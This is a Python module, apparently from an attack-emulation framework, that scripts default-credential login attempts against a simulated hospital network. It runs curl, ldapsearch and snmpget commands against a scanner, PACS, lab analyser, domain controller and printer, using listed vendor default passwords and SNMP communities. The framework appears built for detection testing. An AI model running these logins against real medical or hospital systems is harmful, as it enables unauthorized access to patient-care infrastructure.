"""Log-ins with the passwords of manuals, in clear (ATT&CK T1078.001; row "default or cleartext credentials").

loud: one attempt each with some twenty pairs that makers and advisories print, within minutes: over FTP from a host plugged in beside the
scanner, by HTTP Basic at the PACS and at an analyser's page, which still has its own, by LDAP simple bind (the domain, in the whole
hospital only) and SNMP (a printer) from an office. ftp, http, ldap, snmp: one of them. slow: one pair in 20 minutes.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import datetime
from itertools import chain
from typing import NamedTuple

from act import Doing
from acts.intrusion import succeeds
from scenario import Scenario, Script
from space import call
from state import Hospital

OFFICE, RADIOLOGY, LABORATORY = "rogue-office", "rogue", "lab-ws1"
PACE_S, SLOW_S, SLOW = 10, 1_200, 6
CURL_LOGIN, CURL_HTTP, NOT_BOUND = 67, 22, (32, 34, 49)
"""Exit statuses of refusals: curl(1), and ldapsearch(1) with noSuchObject, invalidDNSyntax, invalidCredentials (RFC 4511)."""
FTP = (("insite", "2getin"), ("root", "#bigguy"), ("acqservice", "#bigguy1"), ("ftpclient", "interfile"), ("service", "service."))
PACS = (("orthanc", "orthanc"), ("admin", "changeit"), ("geservice", "geservice"))
PAGE = (("admin", "password"), ("apc", "apc"), ("admin", "admin"))
LDAP = (("cn=admin,dc=dcm4che,dc=org", "secret"), ("cn=admin,dc=example,dc=org", "admin"), ("uid=admin,ou=system", "secret"))
COMMUNITIES = ("public", "private", "write")


class Step(NamedTuple):
    """One attempt: by whom, at whom."""

    host: str
    to: str
    what: str
    doing: Doing


def ftp(_: Hospital) -> Iterator[Step]:
    for pair in FTP:
        yield Step(RADIOLOGY, "mr01", "a manual's FTP log-in", _curl("mr01", "ftp://{}/", pair, CURL_LOGIN))


def http(_: Hospital) -> Iterator[Step]:
    for pair in PACS:
        yield Step(OFFICE, "pacs", "a manual's log-in at the PACS", _curl("pacs", "http://{}:8042/system", pair, CURL_HTTP))
    for pair in PAGE:
        yield Step(LABORATORY, "ana02", "a manual's log-in at an analyser", _curl("ana02", "http://{}/", pair, CURL_HTTP))


def _curl(name: str, url: str, pair: tuple[str, str], refused: int) -> Doing:
    def doing(hospital: Hospital, moment: datetime) -> None:
        words = ["curl", "-sf", "-o", "/dev/null", "-m", "20", "-u", ":".join(pair)]
        succeeds([*words, url.format(hospital.address(name))], refused)

    return doing


def ldap(hospital: Hospital) -> Iterator[Step]:
    """A simple bind without TLS (RFC 4513 5.1.3)."""
    for pair in LDAP if "dc" in hospital.topology.by_name else ():
        yield Step(OFFICE, "dc", "a manual's bind", _bind(*pair))


def _bind(name: str, password: str) -> Doing:
    def doing(hospital: Hospital, moment: datetime) -> None:
        words = ["ldapsearch", "-x", "-H", f"ldap://{hospital.address('dc')}", "-D", name, "-w", password, "-b", "", "-s", "base"]
        succeeds(words, *NOT_BOUND)

    return doing


def snmp(_: Hospital) -> Iterator[Step]:
    for community in COMMUNITIES:
        yield Step(OFFICE, "printer-office", "a community that makers hand out", _ask(community))


def _ask(community: str) -> Doing:
    def doing(hospital: Hospital, moment: datetime) -> None:
        words = ["snmpget", "-v2c", "-c", community, "-m", "", "-r", "0", "-t", "0.5", hospital.address("printer-office")]
        call([*words, "1.3.6.1.2.1.1.1.0"], expect=())

    return doing


def loud(hospital: Hospital) -> Iterator[Step]:
    return chain(ftp(hospital), http(hospital), ldap(hospital), snmp(hospital))


def slow(hospital: Hospital) -> Iterator[Step]:
    return chain(list(ftp(hospital))[: SLOW // 2], list(http(hospital))[-SLOW // 2 :])


def play(steps: Callable[[Hospital], Iterator[Step]], seconds: float) -> Callable[[Script], None]:
    def script_it(script: Script) -> None:
        for step in steps(script.hospital):
            script.act(step.host, step.what, step.doing, step.to)
            script.wait(seconds)

    return script_it


VARIANTS = {"loud": loud, "ftp": ftp, "http": http, "ldap": ldap, "snmp": snmp}
SCENARIO = Scenario(
    name="default-credentials",
    title="Log-ins with the passwords of manuals",
    technique=("T1078.001",),
    variants={**{name: play(steps, PACE_S) for name, steps in VARIANTS.items()}, "slow": play(slow, SLOW_S)},
    row="default or cleartext credentials",
)
